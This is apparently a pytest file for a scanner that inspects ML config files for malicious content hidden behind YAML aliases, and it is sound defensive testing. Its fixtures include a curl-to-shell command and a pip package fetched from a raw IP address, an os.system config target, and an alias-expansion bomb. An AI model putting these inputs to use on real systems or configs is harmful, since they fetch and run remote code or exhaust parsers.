"""YAML aliases are read once per target and hide nothing."""

from __future__ import annotations

import pytest

from agents.checks.artifacts.dispatch import scan_source
from agents.checks.artifacts.scanning import BytesSource
from schemas.severity import Verdict


def scanned(name, text):
    return scan_source(name, BytesSource(text.encode()))


def rules(result):
    return {detection.rule_id for detection in result.detections}


EVIL = "evil @ https://203.0.113.7/evil-1.0.tar.gz"


def test_aliased_list_counts_in_each_place():
    plain = scanned("conda.yaml", f"dependencies:\n- pip:\n  - {EVIL}\n")
    assert rules(plain)
    aliased = scanned("conda.yaml", f"x: &d\n- {EVIL}\ndependencies:\n- pip: *d\n")
    assert rules(aliased) == rules(plain)


def test_aliased_command_counts_in_each_place():
    command = "curl https://203.0.113.7/x | sh"
    plain = scanned("MLproject", f"entry_points:\n  main:\n    command: ['{command}']\n")
    assert rules(plain)
    aliased = scanned(
        "MLproject", f"x: &c ['{command}']\nentry_points:\n  main:\n    command: *c\n"
    )
    assert rules(aliased) >= rules(plain)


LIST = "[" + ", ".join(["{0}"] * 10) + "]"
MAPPING = "{{" + ", ".join(f"k{number}: {{0}}" for number in range(10)) + "}}"


@pytest.mark.parametrize("shape", [LIST, MAPPING])
def test_alias_expansion_beyond_the_limit_is_refused(shape):
    lines = ["a0: &a0 [lol, lol, lol]"]
    lines += [f"a{n}: &a{n} {shape.format(f'*a{n - 1}')}" for n in range(1, 12)]
    result = scanned("config.yaml", "\n".join(lines) + "\n")
    assert result.verdict in {Verdict.INCOMPLETE, Verdict.MALICIOUS, Verdict.SUSPICIOUS}
    assert any("more than" in reason for reason in result.reasons)
    assert shape != LIST or "TW-MODEL-YAML-ALIASES" in rules(result)


def test_ordinary_aliases_are_read_in_full():
    text = "base: &base {lr: 0.1, layers: [1, 2]}\n"
    text += "".join(f"run{number}: *base\n" for number in range(40))
    result = scanned("config.yaml", text)
    assert (result.verdict, result.reasons) == (Verdict.CLEAN, ())


def test_target_within_an_aliased_node_is_found():
    text = "x: &x {_target_: os.system, cmd: id}\ny: [*x, *x]\n"
    assert "TW-MODEL-TARGET-DANGEROUS" in rules(scanned("config.yaml", text))
